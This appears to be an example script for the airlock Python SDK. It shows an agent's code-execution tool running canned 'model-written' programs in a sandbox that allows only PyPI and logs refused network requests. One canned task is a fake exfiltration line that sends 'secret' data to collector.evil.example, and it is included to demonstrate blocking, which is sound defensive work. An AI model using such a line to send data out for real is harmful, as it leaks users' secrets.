#!/usr/bin/env python3
"""An agent loop's code-execution tool on airlock.

Each task's model-written code runs in a fresh sandbox under a policy that allows one
package index and nothing else; the tool returns the program's output and, from the
sandbox's audit events, every network request the policy refused. The "model" here is
a stand-in that returns canned programs (one of them tries to send data to a host it may
not reach), so the example runs anywhere airlock does, without an API key.

    python3 sdk/python/examples/agent_tool.py

Needs the airlock binary on PATH or in $AIRLOCK_BIN, and a built image (airlock image
build). The refused requests are printed whether or not the host has internet access.
"""
from __future__ import annotations

import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))  # run from a checkout

import airlock  # noqa: E402

POLICY = {
    "network": {"allowed_hosts": ["pypi.org", "files.pythonhosted.org"]},
    "resources": {"cpus": 1, "memory_mb": 512, "timeout_seconds": 120},
}

TASKS = {
    "primes": "print([n for n in range(2, 60) if all(n % d for d in range(2, n))])",
    "exfiltrate": (
        "import urllib.request\n"
        "try:\n"
        "    urllib.request.urlopen('https://collector.evil.example/upload?data=secret', timeout=5)\n"
        "except Exception as e:\n"
        "    print('request failed:', type(e).__name__)\n"
    ),
    "crash": "raise SystemExit('the model wrote a bug')",
}


def model(task: str) -> str:
    """Stands in for an LLM call that writes code for the task."""
    return TASKS[task]


def run_code(code: str, timeout: float = 60) -> dict:
    """The tool the agent calls: runs code in a fresh sandbox, returns what happened."""
    with airlock.Sandbox(config=POLICY) as sb:
        sb.write_file("/workspace/main.py", code)
        try:
            result = sb.exec(["python3", "/workspace/main.py"], timeout=timeout)
            outcome = {"exit_code": result.exit_code, "stdout": result.stdout, "stderr": result.stderr[-2000:]}
        except airlock.Timeout as e:
            outcome = {"exit_code": None, "stdout": e.result.stdout, "stderr": "timed out"}
        blocked = []
        for event in sb.events(follow=False):
            detail = event.get(event["type"], {})
            if event["type"] in ("network", "dns") and detail.get("blocked"):
                blocked.append({"type": event["type"], "host": detail.get("host") or detail.get("name"),
                                "reason": detail.get("block_reason")})
        outcome["blocked_requests"] = blocked
        return outcome


def main() -> None:
    for task in TASKS:
        outcome = run_code(model(task))
        print(f"== {task}: exit {outcome['exit_code']}")
        if outcome["stdout"]:
            print(outcome["stdout"].rstrip())
        if outcome["exit_code"]:
            print("stderr:", outcome["stderr"].strip().splitlines()[-1])
        for b in outcome["blocked_requests"]:
            print(f"blocked {b['type']}: {b['host']} ({b['reason']})")
    print(json.dumps({"tasks": len(TASKS)}))


if __name__ == "__main__":
    main()
